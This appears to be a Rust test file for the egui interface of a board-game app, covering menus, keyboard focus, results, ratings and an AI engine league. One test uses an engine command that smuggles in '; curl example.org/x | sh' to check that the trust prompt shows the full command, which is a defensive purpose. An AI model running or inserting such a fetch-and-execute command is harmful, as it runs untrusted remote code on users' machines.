//! Pages without a window: what clicks and keys ask for.

use bevy_egui::egui;
use egui::{Context, Key};

use super::model::{Model, Unfinished};
use super::pages::Drafts;
use super::share::Import;
use super::{hud, pages, title, words};
use crate::ai::lab::arena::Plan;
use crate::ai::level::Level;
use crate::app::activities::league::{LeagueRequested, LeagueView, untrusted};
use crate::app::activities::match_play::Match;
use crate::app::core::input::{HoldIntent, Intent, SignHeld};
use crate::app::core::navigation::Page;
use crate::app::core::outgoing::Arrived;
use crate::app::core::results::{Ending, ResultEntry, Results};
use crate::app::core::rules::Rules;
use crate::app::core::session::{MatchSetup, Panel, Panels, Seat, Session, TableRequested};
use crate::app::core::settings::Settings;
use crate::app::core::text::t;
use crate::app::engine::hints::HintRequested;
use crate::app::engine::thinking::{MoveNowRequested, Thinking};
use crate::app::games::bingo_battle::pages::SCORES;
use crate::app::games::covered::Covered;
use crate::app::games::line::BoardLine;
use crate::app::games::ui::GameUi;
use crate::app::kit;
use crate::app::kit::action::Action;
use crate::app::kit::buttons::Button;
use crate::app::kit::faces::level_name;
use crate::app::kit::frames::{self, region};
use crate::app::kit::slots::{PanelPart, Slot};
use crate::app::kit::stage::{SIZES, Stage, button};
use crate::app::kit::theme;
use crate::app::kit::words::signed;
use crate::games::{GameKind, Player};
use crate::record::{AnyTerms, Terms, saved};
use crate::rules::bingo_battle::Options;
use crate::rules::bingo_battle::options::Players;
use crate::rules::bizingo::{Bizingo, Position, Side};
use crate::rules::{Declared, Outcome, Reason};

pub(super) const ALL: [Page; 11] = [
    Page::MENU,
    Page::NEW_GAME,
    Page::SETTINGS,
    Page::HELP,
    Page::RESULT,
    Page::CONFIRM_RESIGN,
    Page::DRAW_OFFER,
    Page::CONFIRM_LEAVE,
    Page::LEAGUE,
    Page::NEW_LEAGUE,
    Page::RESULTS,
];

/// A game after these moves.
pub(super) fn model(seats: [Seat; 2], strict: bool, moves: &[&str]) -> Model {
    let setup = MatchSetup { seats, strict, ..MatchSetup::default() };
    let mut board = setup.start();
    for text in moves {
        let mv = board.parse_move(text).unwrap();
        board.play(mv).unwrap();
    }
    let session = Session::new(setup, || Box::new(Match::default()));
    let mut model = Model::default();
    model.update(&board.into(), &session, &Thinking::default(), Covered::default());
    model.at_table = true;
    model
}

pub(super) fn against_computer(moves: &[&str]) -> Model {
    model([Seat::Person, Seat::computer(3)], false, moves)
}

pub(super) fn over() -> Model {
    let outcome = Some(Outcome { winner: Some(Player::First), reason: Reason::Resignation });
    let mut model = against_computer(&["d8-e8"]);
    (model.outcome, model.to_move) = (outcome, None);
    model
}

pub(super) fn title(ctx: &Context, model: &Model) -> Vec<Action> {
    let (buttons, _) = title::areas(ctx.content_rect());
    region(ctx, "title", buttons, |ui| title::page(ui, model))
}

pub(super) fn panel(ctx: &Context, model: &Model) -> Vec<Action> {
    let place = hud::place(ctx, model);
    let line = hud::line_under_board(model, place, &BoardLine::Turn);
    let mut actions = line.map_or_else(Vec::new, |rect| region(ctx, "line", rect, |ui| hud::board_line(ui, model, "")));
    actions.extend(region(ctx, "hud", place.panel, |ui| hud::panel(ui, model, &Settings::default(), place)));
    actions
}

/// A page with a draft of its own.
pub(super) fn page(page: Page, model: &Model) -> impl FnMut(&Context) -> Vec<Action> {
    let mut draft = Drafts::default();
    move |ctx| pages::show(ctx, page, model, &Settings::default(), &mut draft)
}

#[test]
fn what_all_games_have_stands_where_it_was_in_the_menu_of_each() {
    for (width, height) in SIZES {
        let place = |model: &Model| {
            let mut stage = Stage::new(width, height);
            let mut draw = page(Page::MENU, model);
            stage.settle(&mut draw);
            let names = [
                "Resume",
                "New game",
                "Share or save",
                "AI league",
                "Learn",
                "Puzzles",
                "Analysis",
                "Library",
                "Results",
                "How to play",
                "Settings",
                "Title screen",
                "Quit",
            ];
            names.map(|name| stage.find(name).unwrap().min)
        };
        let usual = place(&against_computer(&["d8-e8"]));
        let mut with_pages = bingo("2..../2..../...../..... l 0 0", &["s2 m3 c4 a5"]);
        with_pages.slots.put(Slot::Menu, "a test", Some(std::sync::Arc::new(Doorbell)));
        assert_eq!(place(&with_pages), usual, "{width} x {height}");
    }
}

/// An unfinished game of each kind, one of them on the table.
pub(super) fn three_unfinished() -> Model {
    let mut model = against_computer(&["d8-e8"]);
    let game = |setup: MatchSetup, moves| Unfinished { setup, moves };
    let azigo =
        MatchSetup { terms: AnyTerms::usual(GameKind::Azigo), seats: [Seat::Person; 2], ..MatchSetup::default() };
    let alone = Options { players: Players::One, ..Options::default() };
    let bingo = MatchSetup { terms: alone.into(), ..MatchSetup::default() };
    model.unfinished.extend([game(azigo, 12), game(bingo, 100)]);
    model
}

#[test]
fn a_new_game_asks_only_about_the_unfinished_one_of_its_kind() {
    let mut model = three_unfinished();
    model.unfinished.pop();
    let mut stage = Stage::new(1280.0, 800.0);
    let mut drafts = Drafts::default();
    drafts.game.choose(GameKind::BingoBattle);
    let show = |page: Page, model: &Model, drafts: &mut Drafts, ctx: &Context| {
        pages::show(ctx, page, model, &Settings::default(), drafts)
    };
    let actions = stage.click("Start the game", |ctx| show(Page::NEW_GAME, &model, &mut drafts, ctx));
    assert!(matches!(actions[..], [Action::Start(_)]), "{actions:?}");
    drafts.game.choose(GameKind::Azigo);
    let actions = stage.click("Start the game", |ctx| show(Page::NEW_GAME, &model, &mut drafts, ctx));
    assert!(matches!(actions[..], [Action::Open(Page::CONFIRM_LEAVE)]), "{actions:?}");
    stage.settle(|ctx| show(Page::CONFIRM_LEAVE, &model, &mut drafts, ctx));
    assert!(
        stage
            .find("Your unfinished game goes to the library, where you can continue it: Azigo, move 12, two players.")
            .is_some()
    );
    // So does a game that comes.
    model.coming = Some(GameKind::Azigo);
    stage.settle(|ctx| show(Page::CONFIRM_OPEN, &model, &mut drafts, ctx));
    assert!(
        stage
            .find("Your unfinished game goes to the library, where you can continue it: Azigo, move 12, two players.")
            .is_some()
    );
    model.coming = Some(GameKind::BingoBattle);
    stage.settle(|ctx| show(Page::CONFIRM_OPEN, &model, &mut drafts, ctx));
    assert!(stage.find("It replaces what is on the board now.").is_some());
}

#[test]
fn a_text_that_is_no_game_stays_to_be_mended() {
    let model = against_computer(&["d8-e8"]);
    // Where there is less room the page scrolls.
    for (width, height) in SIZES.into_iter().filter(|(_, height)| *height > 700.0) {
        let mut stage = Stage::new(width, height);
        let mut drafts = Drafts::default();
        let draw =
            |ctx: &Context, drafts: &mut Drafts| pages::show(ctx, Page::SHARE, &model, &Settings::default(), drafts);
        let actions = stage.click("Paste", |ctx| draw(ctx, &mut drafts));
        assert!(matches!(actions[..], [Action::Send(_)]), "the page stays: {actions:?}");
        drafts.import.text = "d8-z9".to_owned();
        drafts.import.wrong = "This is not a game.".to_owned();
        let actions = stage.click("Open", |ctx| draw(ctx, &mut drafts));
        assert_eq!(actions[0].sent::<Arrived>().unwrap().0, "d8-z9");
        assert!(stage.find("This is not a game.").is_some());
        assert_eq!(drafts.import.text, "d8-z9");
    }
}

#[test]
fn what_is_wrong_with_a_text_is_in_sight_when_the_page_opens() {
    let model = against_computer(&["d8-e8"]);
    for (width, height) in SIZES.into_iter().chain([(740.0, 360.0)]) {
        let mut stage = Stage::new(width, height);
        let import = Import { text: "d8-z9".to_owned(), wrong: "This is not a game.".to_owned(), news: true };
        let mut drafts = Drafts { import, ..Drafts::default() };
        frames::open_at_top(&stage.ctx);
        stage.settle(|ctx| pages::show(ctx, Page::SHARE, &model, &Settings::default(), &mut drafts));
        let told = stage.find("This is not a game.").unwrap();
        assert!(told.top() > 40.0 && told.bottom() < height - 10.0, "{width} x {height}: {told}");
        assert!(!drafts.import.news, "it does not hold the page there");
    }
}

#[test]
fn starting_asks_for_the_match_that_was_set_up() {
    let fresh = Model::default();
    let mut stage = Stage::new(1280.0, 800.0);
    let mut draw = page(Page::NEW_GAME, &fresh);
    assert!(stage.click("Dark", &mut draw).is_empty());
    let actions = stage.click("Start the game", &mut draw);
    let [Action::Start(setup)] = &actions[..] else { panic!("{actions:?}") };
    assert_eq!(setup.seats, [Seat::computer(1), Seat::Person]);
    assert_eq!(setup.terms, AnyTerms::default());
}

#[test]
fn a_level_is_set_by_the_arrow_keys() {
    let fresh = Model::default();
    let mut stage = Stage::new(1280.0, 800.0);
    let mut draft = Drafts::default();
    let mut draw = |ctx: &Context| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut draft);
    stage.settle(&mut draw);
    for _ in 0..40 {
        if stage.focused().as_deref() == Some("Dark’s level") {
            break;
        }
        stage.press(Key::Tab, &mut draw);
        stage.settle(&mut draw);
    }
    assert_eq!(stage.focused().as_deref(), Some("Dark’s level"));
    for _ in 0..2 {
        stage.press(Key::ArrowRight, &mut draw);
    }
    assert_eq!(draft.game.setup.seats, [Seat::Person, Seat::computer(3)]);
}

#[test]
fn a_running_game_is_not_lost_without_asking() {
    let going = against_computer(&["d8-e8"]);
    let mut stage = Stage::new(1280.0, 800.0);
    let actions = stage.click("Start the game", page(Page::NEW_GAME, &going));
    assert!(matches!(actions[..], [Action::Open(Page::CONFIRM_LEAVE)]));
    let mut stage = Stage::new(1280.0, 800.0);
    let actions = stage.click("Start new game", page(Page::CONFIRM_LEAVE, &going));
    assert!(matches!(actions[..], [Action::Start(_)]));
    let actions = stage.click("Keep playing", page(Page::CONFIRM_LEAVE, &going));
    assert!(matches!(actions[0], Action::Table(TableRequested::Resume(GameKind::Bizingo))));
}

#[test]
fn a_pasted_position_is_started_from() {
    let start = Position::start(Side::Dark);
    let fresh = Model::default();
    let mut draft = Drafts::default();
    let mut stage = Stage::new(1280.0, 2000.0);
    // How a position is written matters to few, so it is folded away: the board sets one up.
    stage.settle(|ctx| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut draft));
    let field = |stage: &Stage| stage.controls().iter().any(|(name, _)| name == "Position");
    assert!(stage.find("Set up on the board").is_some() && !field(&stage));
    stage.click("As text", |ctx| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut draft));
    stage.settle(|ctx| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut draft));
    assert!(field(&stage));
    draft = Drafts::default();
    draft.game.position = "9/9".to_owned();
    let mut stage = Stage::new(1280.0, 800.0);
    let wrong =
        stage.click("Start the game", |ctx| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut draft));
    assert!(wrong.is_empty());
    stage.settle(|ctx| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut draft));
    assert!(field(&stage), "what is wrong is seen, though it was folded away");
    draft.game.position = start.to_string();
    let actions =
        stage.click("Start the game", |ctx| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut draft));
    let [Action::Start(setup)] = &actions[..] else { panic!("{actions:?}") };
    assert_eq!(setup.terms, AnyTerms::Bizingo(Terms { position: Some(start), ..Terms::default() }));
}

#[test]
fn the_menu_is_used_by_keys_alone() {
    let going = against_computer(&["d8-e8"]);
    let mut draw = page(Page::MENU, &going);
    let mut stage = Stage::new(1280.0, 800.0);
    kit::ask_for_focus(&stage.ctx);
    stage.settle(&mut draw);
    assert_eq!(stage.focused().as_deref(), Some("Resume"));
    assert!(matches!(stage.press(Key::Enter, &mut draw)[..], [Action::CloseAll]));
    assert!(theme::keyboard_used(&stage.ctx));
    stage.press(Key::Tab, &mut draw);
    stage.settle(&mut draw);
    assert!(matches!(stage.press(Key::Enter, &mut draw)[..], [Action::Open(Page::NEW_GAME)]));
}

#[test]
fn every_page_gives_the_keyboard_something_to_begin_with() {
    let mut offered = model([Seat::Person, Seat::Person], false, &["d8-e8"]);
    offered.draw_offer = Some(Player::First);
    for (width, height) in SIZES {
        for kind in ALL {
            let model = match kind {
                Page::RESULT => over(),
                Page::DRAW_OFFER => offered.clone(),
                _ => against_computer(&["d8-e8"]),
            };
            let mut draw = page(kind, &model);
            let mut stage = Stage::new(width, height);
            kit::ask_for_focus(&stage.ctx);
            stage.settle(&mut draw);
            let first = stage.focused();
            assert!(first.is_some(), "{kind:?}");
            // And all of it can be reached, the cross in the corner too.
            let mut reached = Vec::new();
            for _ in 0..60 {
                stage.press(Key::Tab, &mut draw);
                stage.settle(&mut draw);
                reached.extend(stage.focused());
            }
            assert!(reached.iter().any(|name| name == "Close"), "{kind:?}: {reached:?}");
            assert_eq!(stage.click("Close", &mut draw).len(), 1);
        }
    }
}

#[test]
fn the_panel_takes_back_jumps_and_opens() {
    for (width, height) in SIZES {
        let going = against_computer(&["d8-e8", "f5-e5"]);
        let mut stage = Stage::new(width, height);
        let actions = stage.click("Undo", |ctx| panel(ctx, &going));
        assert!(matches!(actions[..], [Action::Table(TableRequested::Undo)]));
        let actions = stage.click("Menu", |ctx| panel(ctx, &going));
        assert!(matches!(actions[..], [Action::Open(Page::MENU)]));
        if stage.find("Move list").is_some() {
            stage.click("Move list", |ctx| panel(ctx, &going));
        }
        let actions = stage.click("Resign", |ctx| panel(ctx, &going));
        assert!(matches!(actions[..], [Action::Open(Page::CONFIRM_RESIGN)]));
        let actions = stage.click("d8–e8", |ctx| panel(ctx, &going));
        assert!(matches!(actions[..], [Action::Table(TableRequested::Jump(1))]));
    }
}

#[test]
fn an_undo_does_not_look_like_looking_back() {
    let shown = |looking| {
        let mut model = against_computer(&["d8-e8", "f5-e5"]);
        (model.ply, model.looking, model.to_move) = (0, looking, Some(Player::First));
        [words::turn_line(&model, false), words::progress(&model)]
    };
    assert_eq!(shown(false), ["Your move · Light · 2 moves undone", "Start of the game · 2 undone"]);
    assert_eq!(shown(true), ["Viewing the start · Light to move", "Viewing the start"]);
    let mut model = against_computer(&["d8-e8", "f5-e5"]);
    (model.ply, model.looking) = (1, true);
    assert_eq!(words::progress(&model), "Viewing move 1 of 2");
    // In a lesson nothing is listed that was undone: the try was taken back.
    (model.looking, model.to_move, model.panels) = (false, Some(Player::First), Panels::default());
    assert_eq!(words::turn_line(&model, false), "Your move · Light");
}

#[test]
fn the_menu_does_whatever_can_be_done_and_closes() {
    let going = against_computer(&["d8-e8", "f5-e5"]);
    for (width, height) in SIZES {
        // As high as all of it: what is scrolled out of sight cannot be clicked.
        let mut stage = Stage::new(width, height.max(1800.0));
        let actions = stage.click("Undo", page(Page::MENU, &going));
        assert!(matches!(actions[..], [Action::CloseAll, Action::Table(TableRequested::Undo)]), "{actions:?}");
        let actions = stage.click("Offer a draw", page(Page::MENU, &going));
        assert!(matches!(actions[..], [Action::CloseAll, Action::Table(TableRequested::OfferDraw)]), "{actions:?}");
        let actions = stage.click("Seat view", page(Page::MENU, &going));
        assert_eq!(actions[1].sent::<Intent>(), Some(&Intent::ViewFromSeat));
        let actions = stage.click("Resign…", page(Page::MENU, &going));
        assert!(matches!(actions[..], [Action::Open(Page::CONFIRM_RESIGN)]), "{actions:?}");
        assert!(stage.find("Pause the computers").is_none(), "there is none to pause");
    }
    let watched = model([Seat::computer(2), Seat::computer(3)], false, &[]);
    let mut stage = Stage::new(1280.0, 800.0);
    let actions = stage.click("One computer move", page(Page::MENU, &watched));
    assert_eq!(actions[1].sent::<Intent>(), Some(&Intent::StepComputers));
}

#[test]
fn a_strict_game_takes_nothing_back() {
    let strict = model([Seat::Person, Seat::Person], true, &["d8-e8"]);
    let mut stage = Stage::new(1280.0, 800.0);
    let actions = stage.click("Moves can’t be undone here", |ctx| panel(ctx, &strict));
    assert!(actions.is_empty());
}

#[test]
fn a_computer_thinks_once_the_move_before_has_been_seen() {
    let mut model = against_computer(&["d8-e8"]);
    model.settle(false, (0, 0));
    let name = words::level_name(3);
    assert_eq!(words::turn_line(&model, false), format!("{name} (Dark) to move"));
    model.settle(true, (1, 1));
    assert_eq!(words::turn_line(&model, false), format!("{name} (Dark) is thinking"));
}

#[test]
fn the_list_tells_of_a_move_when_it_has_arrived() {
    let mut model = against_computer(&["d8-e8", "f5-e5"]);
    let arriving = |model: &mut Model, settled, before| {
        model.settle(settled, before);
        model.arriving
    };
    assert_eq!(arriving(&mut model, false, (1, 1)), 1, "the second move is on its way");
    let seen = |model: &Model| {
        let mut stage = Stage::new(1280.0, 800.0);
        stage.settle(|ctx| panel(ctx, model));
        ["d8–e8", "f5–e5"].map(|name| stage.find(name).is_some())
    };
    assert_eq!(seen(&model), [true, false]);
    assert_eq!(arriving(&mut model, false, (2, 2)), 1, "still");
    assert_eq!(arriving(&mut model, true, (2, 2)), 0);
    assert_eq!(seen(&model), [true, true]);
    // A step through the game, and what is tried in place of other moves, is in the list at once.
    assert_eq!(arriving(&mut model, false, (2, 1)), 0);
    assert_eq!(arriving(&mut model, false, (5, 1)), 0);
}

#[test]
fn a_thinking_computer_can_be_hurried() {
    let mut thinking = against_computer(&["d8-e8"]);
    thinking.thinking = Some((Player::Second, 6));
    for (width, height) in SIZES {
        let mut stage = Stage::new(width, height);
        let actions = stage.click("Move now", |ctx| panel(ctx, &thinking));
        assert!(actions[0].sent::<MoveNowRequested>().is_some());
    }
}

#[test]
fn threats_are_asked_for_while_their_sign_is_held_down() {
    let mut going = against_computer(&["d8-e8", "f5-e5"]);
    going.threats = true;
    let held = |actions: &[Action]| {
        actions
            .iter()
            .any(|action| matches!(action.sent(), Some(SignHeld(HoldIntent::Threats))))
            .then_some(actions.len())
    };
    for (width, height) in SIZES {
        let mut stage = Stage::new(width, height);
        let name = "Show threats";
        let draw = |ctx: &Context| panel(ctx, &going);
        let (place, actions) = stage.press_down(name, draw);
        assert_eq!(held(&actions), Some(1), "{width} x {height}");
        assert_eq!(held(&stage.pass(Vec::new(), draw)), Some(1));
        let ended = stage.pass(vec![button(place, false)], draw);
        assert!(
            held(&ended).is_none() && matches!(ended[0].sent(), Some(Intent::ShowThreats)),
            "a short press: {ended:?}"
        );
        assert!(stage.pass(Vec::new(), draw).is_empty());
    }
    // Nor while there is nothing to show.
    going.threats = false;
    let mut stage = Stage::new(1280.0, 800.0);
    assert!(stage.press_down("Show threats", |ctx| panel(ctx, &going)).1.is_empty());
}

/// A part of this height; as a question it takes all the room that it may.
struct Greedy(f32);

impl PanelPart for Greedy {
    fn show(&self, ui: &mut egui::Ui) -> Vec<Action> {
        ui.allocate_space(egui::vec2(10.0, self.0));
        Vec::new()
    }

    fn show_within(&self, ui: &mut egui::Ui, room: f32) -> Vec<Action> {
        ui.allocate_space(egui::vec2(10.0, room));
        Vec::new()
    }
}

#[test]
fn a_question_leaves_the_signs_in_the_panel() {
    for (width, height) in SIZES.into_iter().filter(|(width, height)| width > height && *height > 500.0) {
        for beside in [0.0, 150.0, 240.0] {
            let mut asked = against_computer(&["d8-e8", "f5-e5"]);
            asked.panels = Panels::default().with(Panel::Moves);
            asked.slots.put(Slot::Question, "test", Some(std::sync::Arc::new(Greedy(0.0))));
            asked.slots.put(Slot::BesideBoard, "test", Some(std::sync::Arc::new(Greedy(beside))));
            let mut stage = Stage::new(width, height);
            stage.settle(|ctx| panel(ctx, &asked));
            let panel = hud::place(&stage.ctx, &asked).panel;
            let menu = stage.find("Menu").unwrap();
            assert!(menu.bottom() <= panel.bottom(), "{width} x {height}, {beside} beside: {menu:?} in {panel:?}");
        }
    }
}

#[test]
fn computers_among_themselves_are_held_and_stepped() {
    let watched = model([Seat::computer(2), Seat::computer(3)], false, &[]);
    let mut stage = Stage::new(1280.0, 800.0);
    let actions = stage.click("Pause", |ctx| panel(ctx, &watched));
    assert!(matches!(actions[..], [Action::Table(TableRequested::Pause(true))]));
    let actions = stage.click("Step", |ctx| panel(ctx, &watched));
    assert!(matches!(actions[..], [Action::Table(TableRequested::Step)]));
    let actions = stage.click("Fast", |ctx| panel(ctx, &watched));
    assert!(matches!(&actions[..], [Action::Set(_)]));
    let mut stage = Stage::new(390.0, 844.0);
    let actions = stage.click("Pause the computers", |ctx| panel(ctx, &watched));
    assert!(matches!(actions[..], [Action::Table(TableRequested::Pause(true))]));
}

#[test]
fn who_only_hears_a_choice_knows_what_it_is_about() {
    for model in [against_computer(&[]), model([Seat::computer(1), Seat::computer(2)], false, &[])] {
        for open in ALL {
            let mut stage = Stage::new(1280.0, 4000.0);
            stage.settle(page(open, &model));
            let mut choices = stage.choices();
            choices.sort();
            let twice: Vec<_> = choices.windows(2).filter(|pair| pair[0] == pair[1]).map(|pair| &pair[0]).collect();
            assert!(twice.is_empty(), "{open:?} has choices that cannot be told apart: {twice:?}");
            let alone: Vec<_> = choices.iter().filter(|(group, _)| group.is_none()).collect();
            assert!(alone.is_empty(), "{open:?} has choices without the name of their group: {alone:?}");
            if open == Page::NEW_GAME {
                assert!(choices.contains(&(Some("Who plays?".to_owned()), "Two players".to_owned())), "{choices:?}");
            }
        }
    }
}

#[test]
fn settings_change_one_thing_at_a_time() {
    let going = against_computer(&[]);
    let mut stage = Stage::new(1280.0, 1400.0);
    let actions = stage.click("Reduced motion", page(Page::SETTINGS, &going));
    let [Action::Set(settings)] = &actions[..] else { panic!("{actions:?}") };
    let expected = saved::Settings { reduced_motion: Some(true), ..Default::default() };
    assert_eq!(**settings, Settings(expected));
    let actions = stage.click("Club", page(Page::SETTINGS, &going));
    let [Action::Set(settings)] = &actions[..] else { panic!("{actions:?}") };
    assert_eq!(settings.look, crate::app::core::settings::Look::Club);
}

#[test]
fn results_are_shown_game_by_game() {
    let game = |level: u8, ending| ResultEntry {
        game: GameKind::BingoBattle,
        level: Some(level),
        second: false,
        ending,
        moves: 44,
        date: "2026-01-31".to_owned(),
        helped: level == 5,
        rules: if level == 4 { "order=free".to_owned() } else { String::new() },
        seed: Some(u64::from(level)),
    };
    let mut known = against_computer(&["d8-e8"]);
    let games = (1..=9).map(|level| game(level, if level < 5 { Ending::Won } else { Ending::Drawn })).collect();
    known.results = std::sync::Arc::new(Results(saved::Results { games, ..Default::default() }));
    for (width, height) in SIZES {
        let mut stage = Stage::new(width, height);
        let mut draw = page(Page::RESULTS, &known);
        stage.settle(&mut draw);
        assert!(stage.find("Level 3, Henrik: not played").is_some());
        let empty = stage.click("Bingo Battle", &mut draw);
        stage.settle(&mut draw);
        assert!(empty.is_empty() && stage.find("Level 3, Henrik: 1 won").is_some());
        assert!(stage.find("Level 5, Duncan: not played").is_some(), "what was taken back does not count");
        let foot = stage.find("Done").unwrap();
        assert!(foot.bottom() <= height && foot.right() <= width, "{width} x {height}: {foot:?}");
    }
    let mut stage = Stage::new(1280.0, 1400.0);
    let mut draw = page(Page::RESULTS, &known);
    stage.click("Bingo Battle", &mut draw);
    let actions = stage.click("Solo games", &mut draw);
    assert!(matches!(actions[..], [Action::Open(SCORES)]));
}

#[test]
fn a_rating_is_shown_with_its_error_and_the_next_opponent() {
    let game = |ending| ResultEntry {
        game: GameKind::Bizingo,
        level: Some(3),
        second: false,
        ending,
        moves: 44,
        date: "2026-01-31".to_owned(),
        helped: false,
        rules: String::new(),
        seed: Some(1),
    };
    let mut known = against_computer(&["d8-e8"]);
    let games = [Ending::Won, Ending::Lost, Ending::Won, Ending::Won].repeat(6).into_iter().map(game).collect();
    known.results = Results(saved::Results { games, ..Default::default() }).into();
    let (rating, change) = known.results.rating(GameKind::Bizingo).unwrap();
    let next = Level::nearest(GameKind::Bizingo, rating.value()).number();
    assert!(next >= 3 && rating.error() > 0 && !rating.is_guess());
    let about = (rating.shown(), rating.error());
    let mut stage = Stage::new(1280.0, 1400.0);
    stage.settle(page(Page::RESULTS, &known));
    let text = t!("results-rating", rating = about.0, error = about.1, level = next, name = level_name(next));
    assert!(text.contains(" ± ") && stage.find(&text).is_some(), "{text}");
    let mut over = over();
    over.results = known.results.clone();
    stage.settle(page(Page::RESULT, &over));
    let text = t!("results-rated", rating = about.0, error = about.1, change = signed(change), level = next);
    assert!(text.contains(" ± ") && stage.find(&text).is_some(), "{text}");
}

#[test]
fn resigning_is_asked_about_and_enter_is_harmless() {
    let going = against_computer(&["d8-e8"]);
    let mut draw = page(Page::CONFIRM_RESIGN, &going);
    let mut stage = Stage::new(1280.0, 800.0);
    let actions = stage.click("Resign", &mut draw);
    assert!(
        matches!(actions[..], [Action::CloseAll, Action::Table(TableRequested::End(end))] if end == Declared::resignation(Player::First))
    );
    kit::ask_for_focus(&stage.ctx);
    stage.settle(&mut draw);
    assert!(matches!(stage.press(Key::Enter, &mut draw)[..], [Action::Close]));
}

/// The end of a command may be what matters.
#[test]
fn a_program_of_a_file_is_shown_with_its_whole_command_and_enter_is_harmless() {
    let command = "/home/a-friend/engines/bizingo-engine --threads 2 --log /tmp/log; curl example.org/x | sh";
    let plan = Plan::<Bizingo> {
        seed: 1,
        opening: 0,
        games: 2,
        ..Plan::of([&format!("ugi:{command}"), "random"].map(|spec| spec.parse().unwrap()).to_vec())
    };
    let league = LeagueView { plan: Some(plan.into()), threads: 2, ..LeagueView::default() };
    let mut model = Model::default();
    model.league = league.into();
    for (width, height) in SIZES {
        let mut stage = Stage::new(width, height);
        let mut draw = page(Page::CONFIRM_ENGINES, &model);
        stage.settle(&mut draw);
        assert!(stage.find(command).is_some(), "{width} x {height}");
        kit::ask_for_focus(&stage.ctx);
        stage.settle(&mut draw);
        assert!(matches!(stage.press(Key::Enter, &mut draw)[..], [Action::Close]));
        let actions = stage.click("Start them", &mut draw);
        assert!(matches!(&actions[..], [Action::Close, go] if matches!(go.sent(), Some(LeagueRequested::Trust(2)))));
    }
    // What was agreed to before is not asked about again.
    let known = Settings(saved::Settings { engines: vec![command.to_owned()], ..Default::default() });
    assert!(untrusted(model.league.plan.as_ref().unwrap(), &known).is_empty());
}

#[test]
fn the_panel_leaves_the_larger_part_to_the_board() {
    for (width, height) in SIZES {
        let stage_model = against_computer(&["d8-e8"]);
        let mut stage = Stage::new(width, height);
        let place = stage.pass(Vec::new(), |ctx| hud::place(ctx, &stage_model));
        // Below it the panel takes what the board cannot use: that is as wide as the window.
        let least = if place.below { 0.5 } else { 0.6 };
        assert!(place.board.area() > width * height * least, "{width} x {height}: {place:?}");
        assert!(!place.board.shrink(1.0).intersects(place.panel));
    }
}

#[test]
fn every_game_can_be_started() {
    for (width, height) in SIZES {
        for kind in GameKind::ALL {
            let fresh = Model::default();
            let mut stage = Stage::new(width, height);
            let mut draw = page(Page::NEW_GAME, &fresh);
            assert!(stage.click(kind.title(), &mut draw).is_empty());
            let actions = stage.click("Start the game", &mut draw);
            let [Action::Start(setup)] = &actions[..] else { panic!("{kind:?} in {width} x {height}: {actions:?}") };
            assert_eq!(setup.kind(), kind);
        }
    }
}

#[derive(Debug)]
struct Doorbell;

impl PanelPart for Doorbell {
    fn height(&self, _ctx: &Context, _width: f32) -> f32 {
        44.0
    }

    fn show(&self, ui: &mut egui::Ui) -> Vec<Action> {
        let pressed = Button::new("Doorbell").height(44.0).show(ui).clicked();
        if pressed { vec![Action::send_quietly(HintRequested)] } else { Vec::new() }
    }
}

#[test]
fn what_others_put_into_slots_is_shown_and_heard() {
    let mut model = over();
    let before = hud_height(&model);
    for slot in [Slot::Menu, Slot::Result, Slot::BesideBoard] {
        model.slots.put(slot, "a test", Some(std::sync::Arc::new(Doorbell)));
    }
    assert_eq!(hud_height(&model), before + 50.0, "the board makes room");
    for (width, height) in SIZES {
        let rung = |actions: &[Action]| actions.iter().any(|action| action.sent::<HintRequested>().is_some());
        let mut stage = Stage::new(width, height);
        // Results and the menu are longer than low windows, and scroll.
        let mut whole = Stage::new(width, 2000.0);
        assert!(rung(&whole.click("Doorbell", page(Page::RESULT, &model))), "{width} x {height}");
        assert!(rung(&whole.click("Doorbell", page(Page::MENU, &model))), "{width} x {height}");
        assert!(rung(&stage.click("Doorbell", |ctx| panel(ctx, &model))));
    }
}

/// How high the panel is where it lies below the board, and has no room to spare.
fn hud_height(model: &Model) -> f32 {
    Stage::new(360.0, 640.0).pass(Vec::new(), |ctx| hud::place(ctx, model).panel.height())
}

#[test]
fn games_played_alone_lead_to_their_scores() {
    let fresh = Model::default();
    let mut drafts = Drafts::default();
    drafts.game.setup.terms = Options { players: Players::One, ..Options::default() }.into();
    let mut stage = Stage::new(1280.0, 800.0);
    let mut draw = |ctx: &Context| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut drafts);
    assert!(matches!(stage.click("Scores", &mut draw)[..], [Action::Open(SCORES)]));
}

/// A game of Bingo Battle after these moves, between two people.
fn bingo(start: &str, moves: &[&str]) -> Model {
    let position = Some(start.parse().unwrap());
    let terms = AnyTerms::BingoBattle(Terms { position, ..Terms::default() });
    let setup = MatchSetup { seats: [Seat::Person; 2], terms, ..MatchSetup::default() };
    let mut board = setup.start();
    for text in moves {
        let mv = board.parse_move(text).unwrap();
        board.play(mv).unwrap();
    }
    let session = Session::new(setup, || Box::new(Match::default()));
    let mut model = Model::default();
    model.update(&board.into(), &session, &Thinking::default(), Covered::default());
    model.at_table = true;
    model
}

#[test]
fn a_throw_and_its_choice_are_one_move_wherever_moves_are_counted() {
    const START: &str = "2..../2..../...../..... l 0 0";
    for (moves, number) in [(0, 0), (1, 1), (2, 2), (3, 2), (4, 3)] {
        let model = bingo(START, &["s2 m3 c4 a5", "sA mA c- a-", ": sm", "s- m- c- a-"][..moves]);
        assert_eq!((model.number(), model.moves(), model.rows.len()), (number, number, number));
        assert_eq!(model.unfinished(GameKind::BingoBattle).map_or(0, |game| game.moves), number);
    }
    let all = bingo(START, &["s2 m3 c4 a5", "sA mA c- a-", ": sm", "s- m- c- a-"]);
    assert_eq!(words::progress(&all), "Move 3");
    assert_eq!(all.numbers, [1, 2, 2, 3]);
    // A line of the list that begins with a choice is there too.
    let choice = bingo("2..../2..../...../..... l 0 0 sA mA c- a-", &[": sm"]);
    assert_eq!((choice.rows.as_slice(), choice.number()), ([0].as_slice(), 1));
}

#[test]
fn before_the_first_move_the_line_says_what_the_game_is_about_or_why_this_side_begins() {
    assert_eq!(words::turn_line(&against_computer(&[]), false), "Surround to capture · Your move · Light");
